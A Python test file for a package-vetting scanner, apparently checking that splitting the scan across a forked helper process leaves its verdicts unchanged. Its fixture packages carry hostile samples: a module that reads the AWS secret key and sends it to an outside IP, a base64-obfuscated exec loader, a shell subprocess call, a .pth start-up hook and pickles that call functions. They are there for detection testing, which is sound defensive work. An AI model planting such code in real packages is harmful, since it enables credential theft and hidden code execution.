"""A command-line vetting run shares a large package's members with a forked helper (issue 16).

The helper may change when a verdict comes, never what it is: these tests compare reports
made with and without it, and break the helper in each way it could fail. One helper serves
the whole run (ADR 0186). The forking runs happen in a fresh interpreter (one thread, as the
CLI is), not in pytest's process.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path
from typing import Any

import pytest

from airlock.imports.packages import spread
from airlock.imports.packages import vet as vetting
from airlock.imports.packages.memo import MEMO
from airlock.imports.packages.rules import PackageFinding, Severity
from airlock.imports.packages.spread import (
    MIN_SHARED_BYTES,
    MIN_SPREAD_BYTES,
    Job,
    Task,
    _queue,
    run_jobs,
)
from scripts.make_test_packages import sdist, wheel

ROOT = Path(__file__).resolve().parents[4]

# Filler that names sinks, so every module gets the whole flow pass, and keeps clean.
FILLER = "".join(
    f"def helper_{i}(path):\n    with open(path) as f:\n        return f.read() + {i!r}\n\n\n"
    for i in range(60)
)
SEND = "import os, urllib.request\n\n\ndef go():\n    key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
SEND += "    urllib.request.urlopen('http://203.0.113.7/c?k=' + key)\n\n\ngo()\n"
HIDDEN = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n"


@pytest.fixture(autouse=True)
def _a_fresh_cli_sized_process(monkeypatch: pytest.MonkeyPatch) -> None:
    """The thresholds tested here are a fresh CLI's: pytest's own process, grown by the
    suite, would raise them (ADR 0077)."""
    monkeypatch.setattr(spread, "_resident_mb", lambda: 60.0)


def _package() -> bytes:
    """An sdist of ~40 modules (well over the split threshold) with findings in modules the
    child takes and in modules this process keeps, a cross-file chain and two copies."""
    files = {f"pkg/m{i:02}.py": FILLER for i in range(36)}
    files["pkg/send.py"] = FILLER + SEND
    files["pkg/hidden.py"] = HIDDEN + FILLER
    files["pkg/copy_a.py"] = HIDDEN
    files["pkg/copy_b.py"] = HIDDEN
    files["pkg/util.py"] = "import subprocess\n\n\ndef run():\n    subprocess.run('id', shell=1)\n"
    files["pkg/__init__.py"] = "from .util import run\nrun()\n"
    files["setup.py"] = "from setuptools import setup\nsetup(name='pkg', version='1.0')\n"
    return sdist("pkg", "1.0", files)


# A task kind the tests' own jobs use: it sleeps ``flags`` tenths of a 20 ms step and
# answers with the process that computed it, as a job computed here does.
TEST_TASK = """
import time as _time
from airlock.imports.packages.rules import PackageFinding as _Finding
def _pid_task(task):
    _time.sleep(0.02 * sum(task.flags))
    return [_Finding('pid', task.path, os.getpid(), 1, '')]
_spread.register('pid', _pid_task)
def pid_job(i, size=64 * 1024, slow=False, movable=True):
    task = _spread.Task('pid', str(i), b'', (slow,))
    return _spread.Job(size, lambda: _pid_task(task), task if movable else None)
"""


def _fresh(code: str, tmp_path: Path, blob: bytes | None = None) -> Any:
    """Run ``code`` in a new interpreter (``BLOB`` names the package file); its last line
    of output, as JSON."""
    package = tmp_path / "pkg-1.0.tar.gz"
    if blob is not None:
        package.write_bytes(blob)
    # Whether the machine running the tests is busy is not what they test.
    prelude = f"import json, os, sys\nBLOB = {str(package)!r}\n"
    prelude += "from airlock.imports.packages import spread as _spread\n"
    prelude += "_spread.idle_core = lambda: True\n"
    prelude += TEST_TASK
    done = subprocess.run(
        [sys.executable, "-c", prelude + textwrap.dedent(code)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout.strip().splitlines()[-1])


# Counts the forks; ``plain`` is the report made in one process.
COUNTED = """
from airlock.imports.packages import spread
from airlock.imports.packages.memo import MEMO
from airlock.imports.packages.vet import vet

forks = []
fork = os.fork
def counted():
    pid = fork()
    if pid:
        forks.append(pid)
    return pid
os.fork = counted
data = open(BLOB, 'rb').read()
plain = vet('pkg-1.0.tar.gz', data).to_json()
"""
COMPARE = (
    COUNTED
    + """
MEMO.clear()
shared = vet('pkg-1.0.tar.gz', data, spread=True).to_json()
serious = {f['path'] for f in shared['findings'] if f['severity'] in ('high', 'critical')}
rules = sorted({f['rule'] for f in shared['findings']})
print(json.dumps({'same': plain == shared, 'forks': len(forks), 'verdict': shared['verdict'],
                  'paths': sorted(serious), 'rules': rules}))
"""
)


def test_a_spread_vetting_gives_the_same_report(tmp_path: Path) -> None:
    got = _fresh(COMPARE, tmp_path, _package())
    assert got == {
        "same": True,
        "forks": 1,
        "verdict": "deny",
        "paths": got["paths"],
        "rules": got["rules"],
    }
    # Serious findings from both processes' shares and from the cross-file pass.
    assert {"pkg-1.0/pkg/send.py", "pkg-1.0/pkg/hidden.py", "pkg-1.0/pkg/util.py"} <= set(
        got["paths"]
    )


# Helpers that fail, each in its own way; ``real`` is the helper's true loop.
BROKEN = """
def dies(requests, claims, answers):
    os._exit(9)  # without a word

def reply(answers, number, found):
    spread._send(answers, json.dumps({'package': number, 'answers': found, 'runs': []}).encode())

def claimed(claims):
    taken = []
    while (i := spread._claim(claims)) is not None:
        taken.append(i)
    return taken

def answers_nothing(requests, claims, answers):
    number, _ = spread._tasks(spread._receive(requests))
    reply(answers, number, {})
    os._exit(0)

def garbles(requests, claims, answers):
    spread._receive(requests)
    spread._send(answers, b'not json')
    os._exit(0)

def no_severity(requests, claims, answers):  # for every job it took
    number, _ = spread._tasks(spread._receive(requests))
    reply(answers, number, {str(i): [['r', 'p', 1, 99, 'x']] for i in claimed(claims)})
    os._exit(0)

def another_package(requests, claims, answers):  # answers, but for another package
    number, _ = spread._tasks(spread._receive(requests))
    reply(answers, number + 1, {str(i): [['planted', 'p', 1, 4, 'x']] for i in claimed(claims)})
    os._exit(0)

def leaves_quietly(requests, claims, answers):
    time.sleep(0.2)
    os._exit(0)
"""


@pytest.mark.parametrize(
    "breakage",
    ["dies", "answers_nothing", "garbles", "no_severity", "another_package", "leaves_quietly"],
)
def test_a_failing_helper_changes_nothing_but_time(tmp_path: Path, breakage: str) -> None:
    code = f"""
    import time
    from airlock.imports.packages import spread
    from airlock.imports.packages.memo import MEMO
    from airlock.imports.packages.vet import vet
    {textwrap.indent(BROKEN, "    ").strip()}
    spread._serve = {breakage}
    data = open(BLOB, 'rb').read()
    plain = vet('pkg-1.0.tar.gz', data).to_json()
    MEMO.clear()
    print(json.dumps(plain == vet('pkg-1.0.tar.gz', data, spread=True).to_json()))
    """
    assert _fresh(code, tmp_path, _package()) is True


def test_answers_for_files_the_helper_was_not_given_are_refused(tmp_path: Path) -> None:
    code = """
    from airlock.imports.packages import spread

    def liar(requests, claims, answers):
        n, _ = spread._tasks(spread._receive(requests))
        planted = {str(i): [['planted', 'x', 0, 1, 'x']] for i in range(4)}
        spread._send(answers, json.dumps({'package': n, 'answers': planted, 'runs': []}).encode())
        os._exit(0)
    spread._serve = liar
    found = spread.run_jobs([pid_job(i) for i in range(4)], spread=True)
    print(json.dumps([[f.rule, f.line == os.getpid()] for fs in found for f in fs]))
    """
    assert _fresh(code, tmp_path) == [["pid", True]] * 4


def test_the_helper_computes_its_share_in_its_own_process(tmp_path: Path) -> None:
    code = """
    # long enough that neither process takes every job alone
    jobs = [pid_job(i, (i + 1) * 16 * 1024, slow=True) for i in range(8)]
    found = _spread.run_jobs(jobs, spread=True)
    print(json.dumps([[int(fs[0].path), fs[0].line == os.getpid()] for fs in found]))
    """
    got = _fresh(code, tmp_path)
    assert [i for i, _ in got] == list(range(8))
    here = [i for i, mine in got if mine]
    assert 0 < len(here) < 8  # both processes computed some


def test_a_fork_that_fails_leaves_the_work_here(tmp_path: Path) -> None:
    code = """
    from airlock.imports.packages import spread
    from airlock.imports.packages.rules import PackageFinding

    def refuse():
        raise BlockingIOError(11, 'Resource temporarily unavailable')
    os.fork = refuse
    before = len(os.listdir('/proc/self/fd'))
    found = spread.run_jobs([pid_job(i) for i in range(4)], spread=True)
    left_open = len(os.listdir('/proc/self/fd')) - before
    print(json.dumps([[f[0].line == os.getpid() for f in found], left_open]))
    """
    assert _fresh(code, tmp_path) == [[True] * 4, 0]  # all computed here, no pipe left open


def test_no_fork_while_another_thread_runs(tmp_path: Path) -> None:
    code = """
    import threading
    from airlock.imports.packages import spread
    from airlock.imports.packages.rules import PackageFinding

    def refuse():
        raise AssertionError('forked with a second thread running')
    os.fork = refuse
    stop = threading.Event()
    threading.Thread(target=stop.wait).start()
    found = spread.run_jobs([pid_job(i) for i in range(4)], spread=True)
    stop.set()
    print(json.dumps([spread.can_spread(), sum(len(f) for f in found)]))
    """
    assert _fresh(code, tmp_path) == [False, 4]


KINDS = frozenset({"t"})


def _job(size: int, *, movable: bool = True, kind: str = "t") -> Job:
    return Job(size, list, Task(kind, "", b"") if movable else None)


def test_the_queue_offers_the_largest_members_first() -> None:
    jobs = [_job(60_000), _job(20_000), _job(40_000), _job(30_000, movable=False), _job(70_000)]
    # Never the unmovable one; the smallest last, so the two finish close together.
    assert _queue(jobs, KINDS) == [4, 0, 2, 1]


def test_a_small_package_is_not_split() -> None:
    assert _queue([_job(MIN_SPREAD_BYTES // 4) for _ in range(3)], KINDS) == []
    assert _queue([_job(MIN_SPREAD_BYTES, movable=False) for _ in range(3)], KINDS) == []


def test_a_task_the_helper_does_not_know_stays_here() -> None:
    # A helper knows the kinds registered before it was forked (ADR 0186).
    jobs = [_job(MIN_SPREAD_BYTES), _job(MIN_SPREAD_BYTES, kind="later"), _job(MIN_SPREAD_BYTES)]
    assert _queue(jobs, KINDS) == [0, 2]
    assert _queue(jobs, frozenset()) == []


def test_with_the_helper_running_a_smaller_package_is_shared(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """No fork to pay for once the helper runs (ADR 0186): ~4 ms of members is worth it."""
    jobs = [_job(MIN_SHARED_BYTES // 2) for _ in range(3)]
    assert _queue(jobs, KINDS) == []  # no helper yet: it would cost a fork
    monkeypatch.setattr(spread, "_helper", object())
    assert _queue(jobs, KINDS) == [0, 1, 2]
    assert _queue([_job(MIN_SHARED_BYTES // 4) for _ in range(3)], KINDS) == []


def test_without_spread_everything_runs_here() -> None:
    found = run_jobs(
        [Job(MIN_SPREAD_BYTES, lambda: [PackageFinding("x", "", os.getpid(), Severity.LOW, "")])]
        * 4,
        spread=False,
    )
    assert [f[0].line for f in found] == [os.getpid()] * 4


@pytest.mark.parametrize(
    ("cores", "running", "idle"),
    [(2, 1, True), (2, 2, False), (2, 5, False), (1, 1, False), (8, 7, True), (2, None, False)],
)
def test_a_busy_machine_vets_in_one_process(
    monkeypatch: pytest.MonkeyPatch, cores: int, running: int | None, idle: bool
) -> None:
    monkeypatch.setattr(spread, "_cores", lambda: cores)
    monkeypatch.setattr(spread, "_running", lambda: running)
    assert spread.idle_core() is idle


def test_the_running_count_includes_this_process() -> None:
    running = spread._running()
    assert running is None or running >= 1


ORDER = """
from airlock.imports.packages import crossfile, spread, vet as vetting
from airlock.imports.packages.memo import MEMO

log = []
def logged(name, function):
    def wrapper(*args, **kwargs):
        log.append([name, os.getpid()])
        return function(*args, **kwargs)
    return wrapper
crossfile._across = logged('cross-file', crossfile._across)
spread._receive = logged('answers read', spread._receive)
data = open(BLOB, 'rb').read()
plain = vetting.vet('pkg-1.0.tar.gz', data).to_json()
MEMO.clear()
log.clear()
shared = vetting.vet('pkg-1.0.tar.gz', data, spread=True).to_json()
print(json.dumps({'same': plain == shared, 'log': [[n, p == os.getpid()] for n, p in log]}))
"""


def test_the_cross_file_pass_runs_here_while_the_child_takes_members(tmp_path: Path) -> None:
    # ADR 0061: it ran after both processes' own passes, alone on one core; now this
    # process starts it before it reads the child's answers, and the report is the same.
    got = _fresh(ORDER, tmp_path, _package())
    assert got == {"same": True, "log": [["cross-file", True], ["answers read", True]]}


MANY = (
    COUNTED
    + """
same = []
for round in range(3):
    MEMO.clear()
    same.append(vet('pkg-1.0.tar.gz', data, spread=True).to_json() == plain)
    if round == 0 and KILL:
        os.kill(spread._helper.pid, 9)  # the helper dies between packages
print(json.dumps({'same': same, 'forks': len(forks), 'helper': spread._helper.pid}))
"""
)


def test_one_helper_serves_every_package_of_a_run(tmp_path: Path) -> None:
    # ADR 0186: a fork per package cost a batch grown to 1 GB 20-25 ms a package.
    got = _fresh("KILL = False\n" + MANY, tmp_path, _package())
    assert got["same"] == [True, True, True]
    assert got["forks"] == 1


def test_a_helper_that_died_between_packages_is_replaced(tmp_path: Path) -> None:
    got = _fresh("KILL = True\n" + MANY, tmp_path, _package())
    assert got["same"] == [True, True, True]
    assert got["forks"] == 2  # the package after the death was shared with a new one


def test_no_helper_outlives_the_run(tmp_path: Path) -> None:
    got = _fresh("KILL = False\n" + MANY, tmp_path, _package())
    pid = got["helper"]
    # The run has ended: its helper is stopped with it, not left waiting.
    for _ in range(50):
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            break
        stat = Path(f"/proc/{pid}/stat")
        if stat.exists() and stat.read_text().split(") ", 1)[-1].startswith("Z"):
            break  # a zombie waiting for its new parent to reap it: it runs nothing
        time.sleep(0.1)
    else:
        pytest.fail(f"helper {pid} still running after its run ended")


def test_a_package_left_mid_way_stops_the_helper(tmp_path: Path) -> None:
    # A job that raises here leaves the queue and the helper's answer half-read: the next
    # package must not read them as its own.
    code = """
    def failing():
        raise RuntimeError('a fault of this process')
    jobs = [pid_job(i, slow=True) for i in range(6)]
    try:
        _spread.run_jobs([_spread.Job(64 * 1024, failing), *jobs], spread=True)
    except RuntimeError:
        pass
    stopped = _spread._helper is None
    found = _spread.run_jobs([pid_job(i, slow=True) for i in range(6)], spread=True)
    print(json.dumps([stopped, [int(fs[0].path) for fs in found]]))
    """
    stopped, paths = _fresh(code, tmp_path)
    assert stopped is True
    assert paths == list(range(6))


def _pth_package() -> bytes:
    """A wheel large enough to split, whose ``.pth`` line and ``__init__.py`` call the same
    function of another module: whichever follows it first reports its chain there."""
    files: dict[str, str | bytes] = {f"pkg/m{i:02}.py": FILLER for i in range(36)}
    files["pkg/util.py"] = "import subprocess\n\n\ndef run():\n    subprocess.run('id', shell=1)\n"
    files["pkg/__init__.py"] = "from .util import run\nrun()\n"
    files["pkg_start.pth"] = "import pkg.util; pkg.util.run()\n"
    return wheel("pkg", "1.0", files)


def test_a_pth_file_that_follows_calls_is_read_before_the_cross_file_pass(
    tmp_path: Path,
) -> None:
    # Both passes share the archive's record of calls followed; the .pth pass runs here
    # before the cross-file pass in one process or two. It follows the call and finds the
    # chain, so it does not report the line as a bare start-up hook (``pth-exec``), as it
    # would if the cross-file pass had followed the call first.
    code = COMPARE.replace("pkg-1.0.tar.gz", "pkg-1.0-py3-none-any.whl")
    got = _fresh(code, tmp_path, _pth_package())
    assert (got["same"], got["forks"]) == (True, 1)
    assert "process-call" in got["rules"]
    assert "pth-exec" not in got["rules"]


def test_the_cross_file_pass_finds_the_same_without_the_kept_trees(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # When shared with the child, the pass runs before the members' own passes here keep
    # their trees, so it parses those files itself: the trees, and the report, are the same.
    data = _package()
    kept = vetting.vet("pkg-1.0.tar.gz", data).to_json()
    MEMO.clear()
    monkeypatch.setattr(vetting, "within_budget", lambda starts: set())
    monkeypatch.setattr(vetting, "followable", lambda members, package: set())
    assert vetting.vet("pkg-1.0.tar.gz", data).to_json() == kept


def test_jobs_that_may_not_move_run_here_first_and_in_order(tmp_path: Path) -> None:
    code = """
    import time
    from airlock.imports.packages import spread
    from airlock.imports.packages.rules import PackageFinding

    log = []
    def job(i, movable):
        task = spread.Task('pid', str(i), b'', (True,))
        def compute():
            log.append(i)
            return _pid_task(task)
        return spread.Job(32 * 1024, compute, task if movable else None)

    jobs = [job(i, movable=i % 3 != 0) for i in range(9)]
    found = spread.run_jobs(jobs, spread=True)
    print(json.dumps([log, [fs[0].line == os.getpid() for fs in found]]))
    """
    log, here = _fresh(code, tmp_path)
    assert log[:3] == [0, 3, 6]  # the fixed ones, in order, before any from the queue
    assert all(here[i] for i in (0, 3, 6))


def test_a_large_process_shares_only_work_worth_its_larger_fork(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A fork copies the process's page tables: a batch grown to 1 GB forks in ~30 ms, so a
    package of a few hundred KB is vetted here alone; a fresh CLI keeps the old threshold."""
    jobs = [_job(100 * 1024) for _ in range(6)]  # 600 KB of work
    monkeypatch.setattr(spread, "_resident_mb", lambda: 60.0)
    assert spread.min_spread_bytes() == MIN_SPREAD_BYTES
    assert _queue(jobs, KINDS)
    monkeypatch.setattr(spread, "_resident_mb", lambda: 1024.0)
    assert spread.min_spread_bytes() > 600 * 1024
    assert _queue(jobs, KINDS) == []
    assert _queue(jobs * 2, KINDS)  # 1.2 MB: still worth it


def test_the_resident_size_is_read_from_the_kernel() -> None:
    """Known on Linux (a fresh interpreter holds tens of MB)."""
    out = subprocess.run(
        [
            sys.executable,
            "-c",
            "from airlock.imports.packages import spread\nprint(spread._resident_mb())",
        ],
        capture_output=True,
        text=True,
        check=True,
        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
    )
    assert 5 < float(out.stdout) < 1024


def _pickle_calling(dotted: str, padding: int) -> bytes:
    """A protocol-2 pickle calling ``dotted`` on a bytes argument of ``padding`` bytes."""
    module, _, name = dotted.rpartition(".")
    blob = b"B" + padding.to_bytes(4, "little") + bytes(padding)  # BINBYTES
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"(" + blob + b"tR."


def test_a_pickles_calls_cross_to_the_child_and_back(tmp_path: Path) -> None:
    # A pickle's calls are judged after the members' passes, with the package's own modules
    # (ADR 0124). Sent back from the child as plain findings they were not judged again, so
    # a test pickle calling the package's own function held when shared and not when not.
    files: dict[str, str | bytes] = {f"pkg/m{i:02}.py": FILLER for i in range(36)}
    files.update(
        {f"pkg/tests/case{i}.pkl": _pickle_calling("pkg.m00.helper_1", 60_000) for i in range(8)}
    )
    files["pkg/__init__.py"] = ""
    files["setup.py"] = "from setuptools import setup\nsetup(name='pkg', version='1.0')\n"
    got = _fresh(COMPARE, tmp_path, sdist("pkg", "1.0", files))
    assert got["forks"] == 1
    assert got["same"] is True
    assert got["verdict"] == "allow"
    assert "pickle-call" in got["rules"]
